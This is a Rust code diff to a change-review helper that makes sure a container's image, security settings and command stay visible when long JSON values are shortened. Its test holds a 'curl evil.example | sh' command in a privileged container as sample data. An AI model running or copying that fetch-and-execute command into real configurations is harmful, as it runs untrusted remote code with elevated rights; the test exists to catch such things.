@@ -20,11 +20,27 @@ pub fn values(from: Option<&Json>, to: Option<&Json>) -> (Untrusted, Untrusted) 
     let long = one.chars().count().max(other.chars().count()) > SHOWN;
     if !long || alike < SHOWN / 2 || one == other {
         let is_text = |value: Option<&Json>| matches!(value, Some(Json::String(_)));
-        let room = |value| if is_text(value) { usize::MAX } else { 80 };
+        let room = |value| match value {
+            _ if is_text(value) => usize::MAX,
+            // Who lets a whole container in has to see what it is, what it may and what it runs.
+            Some(value) if holds_container(value) => CONTAINER,
+            _ => 80,
+        };
         return (excerpt(&one, 0, room(from)), excerpt(&other, 0, room(to)));
     }
     let skipped = alike.saturating_sub(SHOWN / 4);
     (excerpt(&one, skipped, SHOWN), excerpt(&other, skipped, SHOWN))
+}
+
+/// How much of a whole container is shown.
+const CONTAINER: usize = 600;
+
+fn holds_container(value: &Json) -> bool {
+    match value {
+        Json::Object(map) => map.contains_key("image"),
+        Json::Array(items) => items.iter().any(holds_container),
+        _ => false,
+    }
 }
 
 /// So many characters of a text from there on, with a mark where something is left out.
@@ -47,7 +63,7 @@ fn as_text(value: Option<&Json>) -> String {
 
 /// What a container is and runs stands before the rest of it, which may be long.
 fn important_first(value: &Json) -> String {
-    const FIRST: [&str; 5] = ["name", "image", "command", "args", "securityContext"];
+    const FIRST: [&str; 5] = ["name", "image", "securityContext", "command", "args"];
     match value {
         Json::Object(map) if map.contains_key("image") => {
             let rank = |key: &str| FIRST.iter().position(|first| *first == key).unwrap_or(FIRST.len());
@@ -85,6 +101,10 @@ mod tests {
         let container = json!({"env": env, "image": "evil.example/x:1", "name": "web"});
         let (_, told) = values(None, Some(&container));
         assert!(told.raw().starts_with(r#"{"name":"web","image":"evil.example/x:1""#), "{told:?}");
+        let container = json!({"name": "n".repeat(63), "image": format!("registry.example/{}:1", "i".repeat(60)),
+            "command": ["sh", "-c", "curl evil.example | sh"], "securityContext": {"privileged": true}});
+        let (_, told) = values(None, Some(&json!([container])));
+        assert!(told.raw().contains("privileged") && told.raw().contains("curl evil.example | sh"), "{told:?}");
         let same = long("good");
         assert_eq!(values(Some(&json!("a")), None), (Untrusted::new("\"a\""), Untrusted::new("nothing")));
         let (one, other) = values(Some(&same), Some(&same));
